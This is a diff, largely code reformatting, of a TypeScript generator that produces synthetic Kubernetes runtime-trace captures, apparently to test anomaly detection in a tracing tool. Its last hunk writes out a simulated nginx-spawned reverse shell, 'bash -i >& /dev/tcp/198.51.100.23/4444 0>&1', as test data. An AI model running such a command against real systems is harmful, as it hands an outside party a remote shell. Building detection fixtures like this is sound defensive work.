@@ -60,7 +60,10 @@ function rng(seed: number): () => number {
 
 function hex(r: () => number, n: number): string {
   let s = '';
-  while (s.length < n) s += Math.floor(r() * 0x100000000).toString(16).padStart(8, '0');
+  while (s.length < n)
+    s += Math.floor(r() * 0x100000000)
+      .toString(16)
+      .padStart(8, '0');
   return s.slice(0, n);
 }
 function uuid(r: () => number): string {
@@ -114,7 +117,18 @@ export function makeCapture(opts: GenerateOptions): GeneratedCapture {
   const nextPid = new Map(nodes.map((n) => [n, 3000]));
   const procStart = (): number => Math.floor(r() * 1e12) + 1e12;
 
-  function addPod(ns: string, wlKind: string, wlName: string, name: string, node: string, sa: string, ctr: string, image: string, procs: [string, string[], number][], hostNetwork = false): PodSim {
+  function addPod(
+    ns: string,
+    wlKind: string,
+    wlName: string,
+    name: string,
+    node: string,
+    sa: string,
+    ctr: string,
+    image: string,
+    procs: [string, string[], number][],
+    hostNetwork = false,
+  ): PodSim {
     const uid = uuid(rc);
     const ctrId = hex(rc, 64);
     const ip = hostNetwork ? nodeIps[nodes.indexOf(node)]! : `10.244.${nodes.indexOf(node)}.${podIp++}`;
@@ -169,42 +183,92 @@ export function makeCapture(opts: GenerateOptions): GeneratedCapture {
   const rs2 = podHash(rc, 10);
   for (let i = 0; i < 2; i++)
     apis.push(
-      addPod('shop', 'Deployment', 'api', `api-${rs2}-${podHash(rc, 5)}`, nodes[(i + 1) % 3]!, 'api', 'api', 'shop/api:2.3.1', [
-        ['/usr/local/bin/node', ['node', '/app/server.js'], 1000],
-      ]),
+      addPod(
+        'shop',
+        'Deployment',
+        'api',
+        `api-${rs2}-${podHash(rc, 5)}`,
+        nodes[(i + 1) % 3]!,
+        'api',
+        'api',
+        'shop/api:2.3.1',
+        [['/usr/local/bin/node', ['node', '/app/server.js'], 1000]],
+      ),
     );
   const db = addPod('shop', 'StatefulSet', 'db', 'db-0', 'node-c', 'default', 'postgres', 'postgres:16', [
     ['/usr/lib/postgresql/16/bin/postgres', ['postgres', '-D', '/var/lib/postgresql/data'], 999],
     ['/usr/lib/postgresql/16/bin/postgres', ['postgres: checkpointer'], 999],
     ['/usr/lib/postgresql/16/bin/postgres', ['postgres: walwriter'], 999],
   ]);
-  const redis = addPod('shop', 'Deployment', 'redis', `redis-${podHash(rc, 10)}-${podHash(rc, 5)}`, 'node-b', 'default', 'redis', 'redis:7', [
-    ['/usr/local/bin/redis-server', ['redis-server', '*:6379'], 999],
-  ]);
+  const redis = addPod(
+    'shop',
+    'Deployment',
+    'redis',
+    `redis-${podHash(rc, 10)}-${podHash(rc, 5)}`,
+    'node-b',
+    'default',
+    'redis',
+    'redis:7',
+    [['/usr/local/bin/redis-server', ['redis-server', '*:6379'], 999]],
+  );
   const dnsPods: PodSim[] = [];
   const rs3 = podHash(rc, 10);
   for (let i = 0; i < 2; i++)
     dnsPods.push(
-      addPod('kube-system', 'Deployment', 'coredns', `coredns-${rs3}-${podHash(rc, 5)}`, nodes[i]!, 'coredns', 'coredns', 'registry.k8s.io/coredns/coredns:v1.11.3', [
-        ['/coredns', ['/coredns', '-conf', '/etc/coredns/Corefile'], 0],
-      ]),
+      addPod(
+        'kube-system',
+        'Deployment',
+        'coredns',
+        `coredns-${rs3}-${podHash(rc, 5)}`,
+        nodes[i]!,
+        'coredns',
+        'coredns',
+        'registry.k8s.io/coredns/coredns:v1.11.3',
+        [['/coredns', ['/coredns', '-conf', '/etc/coredns/Corefile'], 0]],
+      ),
     );
-  const prom = addPod('monitoring', 'StatefulSet', 'prometheus', 'prometheus-0', 'node-a', 'prometheus', 'prometheus', 'prom/prometheus:v3.0.0', [
-    ['/bin/prometheus', ['/bin/prometheus', '--config.file=/etc/prometheus/prometheus.yml'], 65534],
-  ]);
+  const prom = addPod(
+    'monitoring',
+    'StatefulSet',
+    'prometheus',
+    'prometheus-0',
+    'node-a',
+    'prometheus',
+    'prometheus',
+    'prom/prometheus:v3.0.0',
+    [['/bin/prometheus', ['/bin/prometheus', '--config.file=/etc/prometheus/prometheus.yml'], 65534]],
+  );
   const exporters: PodSim[] = [];
   for (let i = 0; i < 3; i++)
     exporters.push(
-      addPod('monitoring', 'DaemonSet', 'node-exporter', `node-exporter-${podHash(rc, 5)}`, nodes[i]!, 'node-exporter', 'node-exporter', 'prom/node-exporter:v1.8.2', [
-        ['/bin/node_exporter', ['/bin/node_exporter', '--path.rootfs=/host'], 65534],
-      ], true),
+      addPod(
+        'monitoring',
+        'DaemonSet',
+        'node-exporter',
+        `node-exporter-${podHash(rc, 5)}`,
+        nodes[i]!,
+        'node-exporter',
+        'node-exporter',
+        'prom/node-exporter:v1.8.2',
+        [['/bin/node_exporter', ['/bin/node_exporter', '--path.rootfs=/host'], 65534]],
+        true,
+      ),
     );
   const captures: PodSim[] = [];
   for (let i = 0; i < 3; i++)
     captures.push(
-      addPod('lantern-system', 'Pod', `lantern-capture-${nodes[i]}`, `lantern-capture-${nodes[i]}-${podHash(rc, 5)}`, nodes[i]!, 'default', 'agent', 'lantern/agent:0.1.0', [
-        ['/usr/bin/bpftrace', ['bpftrace', '/opt/lantern/agent.bt'], 0],
-      ], true),
+      addPod(
+        'lantern-system',
+        'Pod',
+        `lantern-capture-${nodes[i]}`,
+        `lantern-capture-${nodes[i]}-${podHash(rc, 5)}`,
+        nodes[i]!,
+        'default',
+        'agent',
+        'lantern/agent:0.1.0',
+        [['/usr/bin/bpftrace', ['bpftrace', '/opt/lantern/agent.bt'], 0]],
+        true,
+      ),
     );
 
   // Host processes per node.
@@ -238,11 +302,28 @@ export function makeCapture(opts: GenerateOptions): GeneratedCapture {
   const apiEndpoint = '192.168.0.10';
   const inventory: Inventory = {
     takenAt: new Date(startMs).toISOString(),
-    nodes: nodes.map((n, i) => ({ name: n, kernel: '6.18.0', runtime: 'containerd://2.0.0', addresses: [nodeIps[i]!], ready: true, labels: { 'kubernetes.io/hostname': n } })),
-    namespaces: ['default', 'kube-system', 'shop', 'monitoring', 'lantern-system'].map((name) => ({ name, podSecurity: name === 'lantern-system' ? { enforce: 'privileged' } : {} })),
+    nodes: nodes.map((n, i) => ({
+      name: n,
+      kernel: '6.18.0',
+      runtime: 'containerd://2.0.0',
+      addresses: [nodeIps[i]!],
+      ready: true,
+      labels: { 'kubernetes.io/hostname': n },
+    })),
+    namespaces: ['default', 'kube-system', 'shop', 'monitoring', 'lantern-system'].map((name) => ({
+      name,
+      podSecurity: name === 'lantern-system' ? { enforce: 'privileged' } : {},
+    })),
     pods: pods.map((p) => p.inv),
     services: [
-      { name: 'kubernetes', namespace: 'default', type: 'ClusterIP', clusterIPs: [apiServer], ports: [{ name: 'https', port: 443 }], endpoints: [{ ip: apiEndpoint }] },
+      {
+        name: 'kubernetes',
+        namespace: 'default',
+        type: 'ClusterIP',
+        clusterIPs: [apiServer],
+        ports: [{ name: 'https', port: 443 }],
+        endpoints: [{ ip: apiEndpoint }],
+      },
       ...services.map((s) => ({
         name: s.name,
         namespace: s.namespace,
@@ -264,7 +345,11 @@ export function makeCapture(opts: GenerateOptions): GeneratedCapture {
     version: 1,
     created: new Date(startMs).toISOString(),
     tool: { name: 'lantern', version: '0.1.0' },
-    cluster: { server: opts.server ?? 'https://192.168.0.10:6443', context: opts.context ?? 'prod-eu', name: opts.context ?? 'prod-eu' },
+    cluster: {
+      server: opts.server ?? 'https://192.168.0.10:6443',
+      context: opts.context ?? 'prod-eu',
+      name: opts.context ?? 'prod-eu',
+    },
     nodes: nodes.map((name) => ({ name, kernel: '6.18.0', agentVersion: '0.1.0', bpftraceVersion: '0.17' })),
     probes,
     source: 'lantern',
@@ -277,7 +362,13 @@ export function makeCapture(opts: GenerateOptions): GeneratedCapture {
   for (let i = 0; i < 40; i++) clientIps.push(`203.0.${113 + (i % 3)}.${1 + i * 5}`);
   const rareIps: string[] = [];
   for (let i = 0; i < 3000; i++) rareIps.push(`${45 + (i % 50)}.${(i * 7) % 250}.${(i * 13) % 250}.${1 + (i % 250)}`);
-  const domains = ['db.shop.svc.cluster.local', 'redis.shop.svc.cluster.local', 'api.shop.svc.cluster.local', 'payments.example.com', 'auth.example.com'];
+  const domains = [
+    'db.shop.svc.cluster.local',
+    'redis.shop.svc.cluster.local',
+    'api.shop.svc.cluster.local',
+    'payments.example.com',
+    'auth.example.com',
+  ];
   const rareDomains: string[] = [];
   for (let i = 0; i < 2000; i++) rareDomains.push(`cdn-${i}.assets.example.net`);
   const staticFiles: string[] = [];
@@ -291,24 +382,53 @@ export function makeCapture(opts: GenerateOptions): GeneratedCapture {
     let i = 0;
     let t = startMs * 1e6;
     const step = 1e9 / rate;
-    const ev = (kind: LanternEvent['kind'], node: string, p: Proc | undefined, sim: PodSim | undefined, extra: Partial<LanternEvent>): LanternEvent => {
+    const ev = (
+      kind: LanternEvent['kind'],
+      node: string,
+      p: Proc | undefined,
+      sim: PodSim | undefined,
+      extra: Partial<LanternEvent>,
+    ): LanternEvent => {
       const s = seq.get(node)! + 1;
       seq.set(node, s);
       const e: LanternEvent = { kind, time: Math.round(t), node, seq: s, source: 'lantern' };
-      if (p) e.proc = { pid: p.pid, start: p.start, ppid: p.ppid, pstart: p.pstart, uid: p.uid, comm: p.comm, exe: p.exe };
+      if (p)
+        e.proc = { pid: p.pid, start: p.start, ppid: p.ppid, pstart: p.pstart, uid: p.uid, comm: p.comm, exe: p.exe };
       if (sim) e.container = { id: sim.ctrId, podUid: sim.inv.uid, cgroup: sim.cgroup };
       Object.assign(e, extra);
       i++;
       return e;
     };
-    const pick = <T,>(a: T[]): T => a[Math.floor(r() * a.length)]!;
-    const tcp = (saddr: string, sport: number, daddr: string, dport: number) => ({ proto: 'tcp' as const, family: 4 as const, saddr, sport, daddr, dport });
+    const pick = <T>(a: T[]): T => a[Math.floor(r() * a.length)]!;
+    const tcp = (saddr: string, sport: number, daddr: string, dport: number) => ({
+      proto: 'tcp' as const,
+      family: 4 as const,
+      saddr,
+      sport,
+      daddr,
+      dport,
+    });
     const eph = () => 32768 + Math.floor(r() * 28000);
 
     // Capture start: agent status and the process/socket snapshot.
-    for (const n of nodes) yield ev('agent.status', n, undefined, undefined, { agent: { phase: 'start', kernel: '6.18.0', bpftrace: '0.17', agentVersion: '0.1.0', probes, bootTimeNs: bootNs } });
-    for (const sim of pods) for (const p of sim.procs) yield ev('snapshot.proc', sim.node, { ...p }, sim, { proc: { ...p } });
-    for (const [n, ps] of hostProcs) for (const p of ps) yield ev('snapshot.proc', n, p, undefined, { proc: { pid: p.pid, start: p.start, ppid: 1, uid: 0, comm: p.comm, exe: p.exe, args: p.args } });
+    for (const n of nodes)
+      yield ev('agent.status', n, undefined, undefined, {
+        agent: {
+          phase: 'start',
+          kernel: '6.18.0',
+          bpftrace: '0.17',
+          agentVersion: '0.1.0',
+          probes,
+          bootTimeNs: bootNs,
+        },
+      });
+    for (const sim of pods)
+      for (const p of sim.procs) yield ev('snapshot.proc', sim.node, { ...p }, sim, { proc: { ...p } });
+    for (const [n, ps] of hostProcs)
+      for (const p of ps)
+        yield ev('snapshot.proc', n, p, undefined, {
+          proc: { pid: p.pid, start: p.start, ppid: 1, uid: 0, comm: p.comm, exe: p.exe, args: p.args },
+        });
     for (const w of webs) yield ev('listen', w.node, w.procs[0], w, { net: tcp('0.0.0.0', 80, '0.0.0.0', 0) });
     for (const a of apis) yield ev('listen', a.node, a.procs[0], a, { net: tcp('0.0.0.0', 8080, '0.0.0.0', 0) });
     yield ev('listen', db.node, db.procs[0], db, { net: tcp('0.0.0.0', 5432, '0.0.0.0', 0) });
@@ -322,7 +442,9 @@ export function makeCapture(opts: GenerateOptions): GeneratedCapture {
       if (t - lastTick > 10e9) {
         lastTick = t;
         for (const n of nodes) {
-          yield ev('agent.status', n, undefined, undefined, { agent: { phase: 'tick', counters: { events: seq.get(n)! } } });
+          yield ev('agent.status', n, undefined, undefined, {
+            agent: { phase: 'tick', counters: { events: seq.get(n)! } },
+          });
           // kubelet exec probe in the db pod and the api pods: fresh pids, then exit (pid churn).
         }
         for (const target of [db, ...apis]) {
@@ -330,10 +452,27 @@ export function makeCapture(opts: GenerateOptions): GeneratedCapture {
           const kubelet = hostProcs.get(n)![0]!;
           const pid = nextPid.get(n)!;
           nextPid.set(n, pid > 4_000_000 ? 3000 : pid + 1 + Math.floor(r() * 3));
-          const sh: Proc = { pid, start: procStart(), ppid: target.procs[0]!.pid, pstart: target.procs[0]!.start, uid: target.procs[0]!.uid, comm: 'sh', exe: '/bin/sh', args: [] };
-          const cmd = target === db ? ['pg_isready', '-U', 'postgres'] : ['wget', '-qO-', 'http://127.0.0.1:8080/healthz'];
-          yield ev('exec', n, sh, target, { proc: { ...sh, ppid: kubelet.pid, pstart: kubelet.start, args: ['sh', '-c', cmd.join(' ')] } });
-          const tool: Proc = { ...sh, comm: cmd[0]!.slice(0, 15), exe: target === db ? '/usr/lib/postgresql/16/bin/pg_isready' : '/usr/bin/wget', args: cmd };
+          const sh: Proc = {
+            pid,
+            start: procStart(),
+            ppid: target.procs[0]!.pid,
+            pstart: target.procs[0]!.start,
+            uid: target.procs[0]!.uid,
+            comm: 'sh',
+            exe: '/bin/sh',
+            args: [],
+          };
+          const cmd =
+            target === db ? ['pg_isready', '-U', 'postgres'] : ['wget', '-qO-', 'http://127.0.0.1:8080/healthz'];
+          yield ev('exec', n, sh, target, {
+            proc: { ...sh, ppid: kubelet.pid, pstart: kubelet.start, args: ['sh', '-c', cmd.join(' ')] },
+          });
+          const tool: Proc = {
+            ...sh,
+            comm: cmd[0]!.slice(0, 15),
+            exe: target === db ? '/usr/lib/postgresql/16/bin/pg_isready' : '/usr/bin/wget',
+            args: cmd,
+          };
           yield ev('exec', n, tool, target, { proc: { ...tool, ppid: kubelet.pid, pstart: kubelet.start } });
           if (target === db) yield ev('connect', n, tool, target, { net: tcp('127.0.0.1', eph(), '127.0.0.1', 5432) });
           else yield ev('connect', n, tool, target, { net: tcp('127.0.0.1', eph(), '127.0.0.1', 8080) });
@@ -363,7 +502,10 @@ export function makeCapture(opts: GenerateOptions): GeneratedCapture {
         else if (y < 0.8) yield ev('connect', a.node, p, a, { net: tcp(a.ip, eph(), '10.96.10.40', 6379) });
         else {
           const q = r() < 0.995 ? pick(domains) : pick(rareDomains);
-          yield ev('dns', a.node, p, a, { dns: { query: q, server: '10.96.0.10', serverPort: 53 }, net: { proto: 'udp', family: 4, saddr: a.ip, sport: eph(), daddr: '10.96.0.10', dport: 53 } });
+          yield ev('dns', a.node, p, a, {
+            dns: { query: q, server: '10.96.0.10', serverPort: 53 },
+            net: { proto: 'udp', family: 4, saddr: a.ip, sport: eph(), daddr: '10.96.0.10', dport: 53 },
+          });
         }
         if (opts.variant === 'extra-egress' && ++apiRequests % 100 === 0) {
           yield ev('connect', a.node, p, a, { net: tcp(a.ip, 45000, '198.51.100.77', 443) });
@@ -373,16 +515,26 @@ export function makeCapture(opts: GenerateOptions): GeneratedCapture {
         const p = db.procs[Math.floor(r() * 3)]!;
         if (r() < 0.3) yield ev('accept', db.node, db.procs[0]!, db, { net: tcp(db.ip, 5432, pick(apis).ip, eph()) });
         const w = r() < 0.2;
-        yield ev('open', db.node, p, db, { file: { path: w ? '/var/lib/postgresql/data/pg_wal/000000010000000000000001' : pick(pgFiles), write: w, flags: w ? 1 : 0 } });
+        yield ev('open', db.node, p, db, {
+          file: {
+            path: w ? '/var/lib/postgresql/data/pg_wal/000000010000000000000001' : pick(pgFiles),
+            write: w,
+            flags: w ? 1 : 0,
+          },
+        });
       } else if (x < 0.72) {
         yield ev('accept', redis.node, redis.procs[0]!, redis, { net: tcp(redis.ip, 6379, pick(apis).ip, eph()) });
       } else if (x < 0.8) {
         const d = pick(dnsPods);
-        yield ev('connect', d.node, d.procs[0]!, d, { net: { proto: 'udp', family: 4, saddr: d.ip, sport: eph(), daddr: '10.0.0.2', dport: 53 } });
+        yield ev('connect', d.node, d.procs[0]!, d, {
+          net: { proto: 'udp', family: 4, saddr: d.ip, sport: eph(), daddr: '10.0.0.2', dport: 53 },
+        });
       } else if (x < 0.86) {
         // prometheus scrapes exporters and pods
         const target = r() < 0.5 ? pick(exporters) : pick([...webs, ...apis]);
-        yield ev('connect', prom.node, prom.procs[0]!, prom, { net: tcp(prom.ip, eph(), target.ip, target === db ? 9187 : target.inv.hostNetwork ? 9100 : 9113) });
+        yield ev('connect', prom.node, prom.procs[0]!, prom, {
+          net: tcp(prom.ip, eph(), target.ip, target === db ? 9187 : target.inv.hostNetwork ? 9100 : 9113),
+        });
       } else if (x < 0.9) {
         const e = pick(exporters);
         yield ev('open', e.node, e.procs[0]!, e, { file: { path: `/host/proc/${100 + Math.floor(r() * 4000)}/stat` } });
@@ -391,12 +543,27 @@ export function makeCapture(opts: GenerateOptions): GeneratedCapture {
         const n = pick(nodes);
         const [kubelet, containerd, journald] = hostProcs.get(n)!;
         const y = r();
-        if (y < 0.4) yield ev('connect', n, kubelet, undefined, { net: tcp(nodeIps[nodes.indexOf(n)]!, eph(), apiEndpoint, 6443) });
+        if (y < 0.4)
+          yield ev('connect', n, kubelet, undefined, {
+            net: tcp(nodeIps[nodes.indexOf(n)]!, eph(), apiEndpoint, 6443),
+          });
         else if (y < 0.7) {
           const sim = pick(pods.filter((p) => p.node === n));
-          yield ev('open', n, kubelet, undefined, { file: { path: `/var/lib/kubelet/pods/${sim.inv.uid}/volumes/kubernetes.io~projected/kube-api-access/token` } });
-        } else if (y < 0.85) yield ev('open', n, containerd, undefined, { file: { path: `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${pick(pods.filter((p) => p.node === n)).ctrId}/config.json` } });
-        else yield ev('open', n, journald, undefined, { file: { path: '/var/log/journal/system.journal', write: true, flags: 1 } });
+          yield ev('open', n, kubelet, undefined, {
+            file: {
+              path: `/var/lib/kubelet/pods/${sim.inv.uid}/volumes/kubernetes.io~projected/kube-api-access/token`,
+            },
+          });
+        } else if (y < 0.85)
+          yield ev('open', n, containerd, undefined, {
+            file: {
+              path: `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${pick(pods.filter((p) => p.node === n)).ctrId}/config.json`,
+            },
+          });
+        else
+          yield ev('open', n, journald, undefined, {
+            file: { path: '/var/log/journal/system.journal', write: true, flags: 1 },
+          });
       } else if (x < 0.9995) {
         // capture pods read their own tracefs
         const c = pick(captures);
@@ -415,7 +582,16 @@ export function makeCapture(opts: GenerateOptions): GeneratedCapture {
       const mk = (exe: string, args: string[], parent: Proc, uid = 101): Proc => {
         const pid = nextPid.get(n)!;
         nextPid.set(n, pid + 1);
-        return { pid, start: procStart(), ppid: parent.pid, pstart: parent.start, uid, comm: exe.slice(exe.lastIndexOf('/') + 1).slice(0, 15), exe, args };
+        return {
+          pid,
+          start: procStart(),
+          ppid: parent.pid,
+          pstart: parent.start,
+          uid,
+          comm: exe.slice(exe.lastIndexOf('/') + 1).slice(0, 15),
+          exe,
+          args,
+        };
       };
       const sh = mk('/bin/sh', ['sh', '-c', 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'], nginx);
       yield ev('exec', n, sh, w, { proc: { ...sh } });
